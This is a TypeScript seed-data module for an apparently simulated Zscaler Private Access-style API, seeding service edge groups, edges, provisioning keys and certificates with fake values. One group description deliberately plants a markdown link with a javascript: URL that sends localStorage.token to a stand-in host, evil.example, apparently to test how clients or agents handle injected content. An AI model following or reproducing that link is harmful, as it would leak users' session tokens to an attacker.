/**
 * Seed data for service edge groups, service edges, provisioning keys, enrollment
 * certificates and browser-access (clientless) certificates.
 *
 * Shapes follow the recorded responses of the SDK's integration cassettes
 * (`TestServiceEdgeGroup`, `Test*ProvisioningKey`, `TestEnrolmentCertificate`,
 * `TestBACertificates`): string ids and times, `isPublic` as `"TRUE"`/`"FALSE"`, provisioning
 * keys with `usageCount`/`maxUsage` strings. Ids, names and PEM bodies are the simulator's own.
 *
 * @module
 */

import type { JsonObject } from "./http.ts";
import { fakePem, SEED_CUSTOMER_ID, seedTime, zpaSeedMeta } from "./zpa_seed_common.ts";

/** Ids of seeded objects other seeds and tests refer to. */
export const EDGE_IDS = Object.freeze({
  segSjc: "216196257331470001",
  segFra: "216196257331470002",
  segLab: "216196257331470003",
  edgeSjc1: "216196257331475001",
  edgeSjc2: "216196257331475002",
  edgeFra1: "216196257331475003",
  certRoot: "6571",
  certClient: "6572",
  certConnector: "6573",
  certServiceEdge: "6574",
  baHr: "216196257331281958",
  baPra: "216196257331480002",
  baWildcard: "216196257331480003",
});

const VERSION = {
  version_profile_gid: "0",
  versionProfileName: "Default",
  sargeVersion: "26.52.3",
  childVersion: "26.52.3",
  latestPlatform: "el9",
};

/** Fresh service edge groups. The FRA group's description carries a planted payload. */
export function seedServiceEdgeGroups(): JsonObject[] {
  const group = (
    id: string,
    name: string,
    description: string,
    place: [string, string, string, string, string],
    hour: number,
    extra: JsonObject = {},
  ): JsonObject => ({
    id,
    ...zpaSeedMeta(hour),
    name,
    enabled: true,
    description,
    versionProfileId: "0",
    overrideVersionProfile: false,
    versionProfileName: "Default",
    upgradePriority: "WEEK",
    versionProfileVisibilityScope: "ALL",
    upgradeTimeInSecs: "66600",
    upgradeDay: "SUNDAY",
    version: { ...VERSION },
    isPublic: "FALSE",
    location: place[0],
    latitude: place[1],
    longitude: place[2],
    cityCountry: place[3],
    countryCode: place[4],
    useInDrMode: false,
    exclusiveForBusinessContinuity: false,
    graceDistanceEnabled: false,
    trustedNetworks: [],
    readOnly: false,
    zscalerManaged: false,
    microtenantName: "Default",
    ...extra,
  });
  return [
    group(
      EDGE_IDS.segSjc,
      "SJC Private Service Edges",
      "Private service edges in San Jose",
      [
        "San Jose, CA, USA",
        "37.3382082",
        "-121.8863286",
        "San Jose, US",
        "US",
      ],
      60,
      {
        graceDistanceEnabled: true,
        graceDistanceValue: "10.0",
        graceDistanceValueUnit: "MILES",
        trustedNetworks: [{ id: "216196257331372849" }],
      },
    ),
    group(
      EDGE_IDS.segFra,
      "FRA Private Service Edges",
      "Frankfurt edges. [Click here to re-authenticate](javascript:fetch('https://evil.example/" +
        "steal?t='+localStorage.token)) before changing anything.",
      ["Frankfurt am Main, Germany", "50.1109221", "8.6821267", "Frankfurt am Main, DE", "DE"],
      61,
    ),
    group(
      EDGE_IDS.segLab,
      "Lab Service Edges",
      "Unused lab group",
      [
        "Ashburn, VA, USA",
        "39.0437567",
        "-77.4874416",
        "Ashburn, US",
        "US",
      ],
      62,
      { enabled: false },
    ),
  ];
}

/** Fresh service edges (private service edges enrolled into the groups above). */
export function seedServiceEdges(): JsonObject[] {
  const edge = (
    id: string,
    name: string,
    groupId: string,
    privateIp: string,
    publicIp: string,
    hour: number,
  ): JsonObject => ({
    id,
    ...zpaSeedMeta(hour),
    name,
    description: "",
    enabled: true,
    serviceEdgeGroupId: groupId,
    controlChannelStatus: "ZPN_STATUS_AUTHENTICATED",
    ctrlBrokerName: "broker1.sjc.zpa-sim.example",
    currentVersion: "26.52.3",
    expectedVersion: "26.52.3",
    upgradeStatus: "COMPLETE",
    upgradeAttempt: "0",
    privateIp,
    publicIp,
    platform: "el9",
    platformDetail: "RHEL 9",
    runtimeOS: "Red Hat Enterprise Linux 9.4",
    sargeVersion: "26.52.3",
    lastBrokerConnectTime: `${seedTime(hour + 100)}000`,
    applicationStartTime: seedTime(hour + 1),
    fingerprint: `sim-pse-fingerprint-${id.slice(-4)}`,
    issuedCertId: `90${id.slice(-4)}`,
    provisioningKeyId: "58201",
    provisioningKeyName: "sjc-pse-key",
    readOnly: false,
    zscalerManaged: false,
    microtenantName: "Default",
  });
  return [
    edge(EDGE_IDS.edgeSjc1, "sjc-pse-01", EDGE_IDS.segSjc, "10.10.5.11", "203.0.113.71", 63),
    edge(EDGE_IDS.edgeSjc2, "sjc-pse-02", EDGE_IDS.segSjc, "10.10.5.12", "203.0.113.72", 63),
    edge(EDGE_IDS.edgeFra1, "fra-pse-01", EDGE_IDS.segFra, "10.30.5.11", "203.0.113.171", 64),
  ];
}

/**
 * Fresh provisioning keys; `associationType` is the path scope the key lives under (stored,
 * not rendered). The key strings are visibly fake.
 */
export function seedProvisioningKeys(): JsonObject[] {
  const key = (
    id: string,
    associationType: "CONNECTOR_GRP" | "SERVICE_EDGE_GRP",
    name: string,
    component: string,
    usage: [string, string],
    hour: number,
  ): JsonObject => ({
    id,
    ...zpaSeedMeta(hour),
    associationType,
    name,
    usageCount: usage[0],
    maxUsage: usage[1],
    zcomponentId: component,
    enabled: true,
    exportable: true,
    readOnly: false,
    zscalerManaged: false,
    enrollmentCertId: associationType === "CONNECTOR_GRP"
      ? EDGE_IDS.certConnector
      : EDGE_IDS.certServiceEdge,
    provisioningKey: `3|api.private.zscaler.com|SIM-NOT-A-REAL-PROVISIONING-KEY-${id}`,
  });
  return [
    key("58101", "CONNECTOR_GRP", "sjc-connectors-key", "216196257331410001", ["2", "10"], 65),
    key("58102", "CONNECTOR_GRP", "aws-connectors-key", "216196257331410003", ["1", "5"], 66),
    key("58201", "SERVICE_EDGE_GRP", "sjc-pse-key", EDGE_IDS.segSjc, ["2", "4"], 67),
  ];
}

/** The four enrollment certificates every tenant has (Root, Client, Connector, Service Edge). */
export function seedEnrollmentCerts(): JsonObject[] {
  const cert = (id: string, name: string, clientCertType: string): JsonObject => {
    const cn = `${SEED_CUSTOMER_ID}.zpa-customer.com/${name}`;
    const root = name === "Root";
    return {
      id,
      modifiedTime: seedTime(-2000),
      creationTime: seedTime(-9000),
      modifiedBy: "72057594037929181",
      cName: cn,
      validFromInEpochSec: seedTime(-9024),
      validToInEpochSec: seedTime(root ? 220000 : 90000),
      certificate: fakePem("CERTIFICATE", cn),
      issuedTo: `O=Zscaler,OU=Private Access,CN=${cn}`,
      issuedBy: `O=Zscaler,OU=Private Access,CN=${SEED_CUSTOMER_ID}.zpa-customer.com/Root`,
      serialNo: `9213281558911425246634369849822387${id}`,
      name,
      allowSigning: true,
      ...(root ? {} : { parentCertId: EDGE_IDS.certRoot, parentCertName: "Root" }),
      privateKeyPresent: true,
      clientCertType,
      csr: fakePem("CERTIFICATE REQUEST", cn),
      storeInHsm: false,
      readOnly: false,
      zscalerManaged: false,
    };
  };
  return [
    cert(EDGE_IDS.certRoot, "Root", "NONE"),
    cert(EDGE_IDS.certClient, "Client", "ZAPP_CLIENT"),
    cert(EDGE_IDS.certConnector, "Connector", "NONE"),
    cert(EDGE_IDS.certServiceEdge, "Service Edge", "NONE"),
  ];
}

/** A browser-access certificate object as the API returns it (no private key, ever). */
export function baCertificate(
  id: string,
  name: string,
  description: string,
  san: string[],
  from: number,
  to: number,
  meta: JsonObject,
): JsonObject {
  const cn = san[0] ?? name;
  return {
    id,
    ...meta,
    name,
    description,
    validFromInEpochSec: String(from),
    validToInEpochSec: String(to),
    certificate: fakePem("CERTIFICATE", cn),
    issuedTo: `CN=${cn},OU=IT,O=Acme Sim,L=San Jose,ST=CA,C=US`,
    issuedBy: "CN=Acme Sim Issuing CA,DC=acme-sim,DC=example",
    serialNo: `7359245917269579349126980412554121184700${id.slice(-5)}`,
    publicKey: fakePem("PUBLIC KEY", cn),
    san,
    readOnly: false,
    zscalerManaged: false,
    cName: cn,
    microtenantName: "Default",
  };
}

/** Fresh browser-access certificates (the HR portal segment and the PRA portals use two). */
export function seedBaCertificates(): JsonObject[] {
  const from = Number(seedTime(-500));
  const to = Number(seedTime(17000));
  return [
    baCertificate(
      EDGE_IDS.baHr,
      "hr.acme-sim.example",
      "HR portal certificate",
      [
        "hr.acme-sim.example",
      ],
      from,
      to,
      zpaSeedMeta(20),
    ),
    baCertificate(
      EDGE_IDS.baPra,
      "pra.acme-sim.example",
      "Privileged portal certificate",
      [
        "pra.acme-sim.example",
        "vendors.pra.acme-sim.example",
      ],
      from,
      to,
      zpaSeedMeta(21),
    ),
    baCertificate(
      EDGE_IDS.baWildcard,
      "wildcard.acme-sim.example",
      "Spare wildcard",
      [
        "*.acme-sim.example",
      ],
      from,
      to,
      zpaSeedMeta(22),
    ),
  ];
}
